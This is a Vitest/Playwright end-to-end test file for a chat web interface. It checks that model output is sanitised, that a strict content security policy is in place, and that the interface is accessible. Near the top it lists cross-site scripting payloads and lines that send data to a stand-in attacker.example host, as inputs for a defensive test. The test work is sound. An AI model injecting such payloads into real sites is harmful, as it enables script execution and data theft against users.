import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { ChatPage } from "./chat-page.ts";
import { type Stack, startStack } from "./stack.ts";

let stack: Stack;
beforeAll(async () => {
  stack = await startStack();
});
afterAll(() => stack.stop());

const PAYLOADS = [
  "<script>window.attacked = true</script>",
  "<img src=x onerror='window.attacked = true'>",
  "<svg onload='window.attacked = true'></svg>",
  "<iframe srcdoc='<script>parent.attacked = true</script>'></iframe>",
  "![x](https://attacker.example/?secret)",
  "![x](http://127.0.0.1:9/secret.png)",
  "[click](javascript:window.attacked=true)",
  "[click](data:text/html,<script>opener.attacked=true</script>)",
  "<a href='javascript:window.attacked=true'>click</a>",
  "<style>@import url(https://attacker.example/x.css);</style>",
  "<link rel=stylesheet href=https://attacker.example/x.css>",
  "<form action=https://attacker.example><button>click</button></form>",
  "<meta http-equiv=refresh content='0;url=https://attacker.example'>",
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.attacked=true&gt;'>",
  "```html\n<script>window.attacked = true</script>\n```",
  "| <img src=x onerror='window.attacked = true'> |\n|---|\n| <script>window.attacked = true</script> |",
];

describe("untrusted text of a model", () => {
  test("runs no script and requests nothing from another origin", async () => {
    const chat = new ChatPage(await stack.open());
    const foreign: string[] = [];
    chat.page.on("request", (request) => {
      if (new URL(request.url()).origin !== stack.url) foreign.push(request.url());
    });
    await chat.provider(/^Cloud/);
    await chat.memory("Stateless");
    for (const payload of PAYLOADS) {
      await chat.say(`fake ${JSON.stringify({ pieces: [...payload] })}`);
    }
    for (const link of await chat.page.getByRole("log").getByRole("link").all()) {
      await expect.poll(() => link.getAttribute("href")).toMatch(/^https?:\/\//);
      await expect.poll(() => link.getAttribute("rel")).toBe("noopener noreferrer nofollow");
    }
    expect(await chat.page.evaluate("window.attacked")).toBeUndefined();
    expect(foreign).toEqual([]);
    expect(
      await chat.page.locator(".markdown :is(script, img, iframe, style, form, object, svg)").count(),
    ).toBe(
      // The icon of the copy button of the one block of code.
      1,
    );
  });

  test("serves the page with a policy that allows its own files only", async () => {
    const policy = (await fetch(stack.url)).headers.get("content-security-policy") ?? "";
    expect(policy).toContain("script-src 'self'");
    expect(policy).toContain("style-src 'self'");
    expect(policy).not.toMatch(/unsafe|\*/);
  });
});

describe("accessibility", () => {
  test.each(["light", "dark"] as const)("has no violations, %s", async (colorScheme) => {
    const chat = new ChatPage(await stack.open({ colorScheme, viewport: { width: 1440, height: 900 } }));
    expect(await chat.page.locator("html").getAttribute("data-theme")).toBe(colorScheme);
    expect(await chat.violations()).toEqual([]);
    await chat.provider(/^Mirror/);
    await chat.memory("Stateful");
    await chat.say("My name is Bob");
    await chat.page.getByRole("button", { name: /^X-ray: / }).click();
    await expect(chat.page.getByText("X-ray: what the model was sent")).toBeVisible();
    expect(await chat.violations()).toEqual([]);
  });

  test("can be used by keyboard alone", async () => {
    const chat = new ChatPage(await stack.open());
    await chat.provider(/^Mirror/);
    const { keyboard } = chat.page;
    await chat.page.getByRole("radio", { name: "Stateless" }).focus();
    await keyboard.press("ArrowRight");
    await expect.poll(() => chat.badge.innerText()).toBe("Remembering");
    await keyboard.press("Alt+KeyI");
    await keyboard.type("Hello");
    await keyboard.press("Enter");
    await expect(chat.answers.first()).toBeVisible();
    await keyboard.press("Alt+KeyM");
    await expect.poll(() => chat.badge.innerText()).toBe("No Memory");
  });

  test("remembers the theme", async () => {
    const chat = new ChatPage(await stack.open({ colorScheme: "light" }));
    await chat.page.getByRole("button", { name: "Switch to dark theme" }).click();
    await chat.page.reload();
    await expect(chat.page.getByRole("button", { name: "Switch to light theme" })).toBeVisible();
    await expect.poll(() => chat.page.locator("html").getAttribute("data-theme")).toBe("dark");
  });

  test("fits a phone's width", async () => {
    const chat = new ChatPage(await stack.open({ viewport: { width: 390, height: 844 } }));
    await chat.provider(/^Mirror/);
    await chat.memory("Stateful");
    await chat.say("Seen on a phone");
    for (const name of ["Memory", "Provider"]) {
      await expect.poll(() => chat.page.getByRole("radiogroup", { name }).isVisible()).toBe(true);
    }
    const overflow = () => chat.page.evaluate("document.documentElement.scrollWidth - innerWidth");
    await expect.poll(() => overflow()).toBe(0);
    await chat.page.getByRole("button", { name: "Sessions" }).click();
    await expect(
      chat.page.getByRole("navigation", { name: "Sessions" }).getByText("Seen on a phone"),
    ).toBeVisible();
    expect(await chat.violations()).toEqual([]);
  });

  test("offers the model at a phone's width and in the settings", async () => {
    const chat = new ChatPage(await stack.open({ viewport: { width: 390, height: 844 } }));
    await chat.provider(/^Cloud/);
    const model = chat.page.getByRole("combobox", { name: "Model", exact: true });
    await expect.poll(() => model.getByRole("option").count()).toBeGreaterThan(1);
    const [usual = "", other = ""] = await model.getByRole("option").allInnerTexts();
    await chat.page.getByRole("button", { name: "Sessions" }).click();
    await chat.page.getByRole("button", { name: "Settings" }).click();
    await chat.page.getByRole("dialog").getByLabel("Model").selectOption(other);
    await chat.page.getByRole("dialog", { name: "Settings" }).getByRole("button", { name: "Close" }).click();
    await chat.page.keyboard.press("Escape");
    expect(usual).not.toBe(other);
    await expect.poll(() => model.inputValue()).toBe(other);
    await chat.say("Hello");
    await model.selectOption(usual);
    await chat.say("Hello again");
    const asked = stack.openai.turns.map(({ body }) => (body as { model: string }).model);
    expect(asked.slice(-2)).toEqual([other, usual]);
  });
});
